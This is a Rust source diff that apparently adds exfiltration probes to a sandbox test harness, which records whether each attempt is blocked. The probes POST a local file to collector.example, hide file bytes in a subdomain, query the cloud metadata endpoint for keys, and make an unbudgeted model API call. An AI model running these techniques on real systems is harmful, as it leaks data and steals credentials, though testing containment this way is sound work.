@@ -3,7 +3,9 @@
 use std::io::{self, Read, Write};
 use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
 use std::process::Command;
-use std::{env, thread};
+use std::{env, fs, thread};
+
+use waki::Client;
 
 use crate::Attempts;
 
@@ -40,6 +42,31 @@ fn fetch(host: &str) -> io::Result<String> {
     stream.write_all(b"GET / HTTP/1.0\r\nhost: example.com\r\n\r\n")?;
     let mut page = Vec::new();
     stream.read_to_end(&mut page).map(|size| format!("{size} bytes"))
+}
+
+/// Carries what it may read to where it may not send.
+pub fn exfiltration(attempts: &mut Attempts<'_>) {
+    let loot = fs::read_to_string("/docs/plain.txt").unwrap_or_default();
+    let send = |url: &str, body: &str| {
+        let sent = Client::new().post(url).body(body.as_bytes()).send();
+        let answer = sent.map_err(|why| why.to_string())?;
+        match answer.header("envelope-denied") {
+            Some(code) => Err(String::from_utf8_lossy(code.as_bytes()).into_owned()),
+            None => Ok(answer.status_code()),
+        }
+    };
+    attempts.attempt("send a document away", || send("https://collector.example/", &loot));
+    attempts.attempt("hide a document in a name", || {
+        let hidden: String = loot.bytes().take(24).map(|byte| format!("{byte:02x}")).collect();
+        send(&format!("https://x{hidden}.collector.example/"), "")
+    });
+    attempts.attempt("ask the cloud for its keys", || {
+        send("http://169.254.169.254/latest/meta-data/", "")
+    });
+    attempts.attempt("ask a model behind the budget's back", || {
+        let question = r#"{"model":"gpt-4o","messages":[{"role":"user","content":"Hello"}]}"#;
+        send("http://model.envelope/v1/chat/completions", question)
+    });
 }
 
 /// Looks around, and starts things.
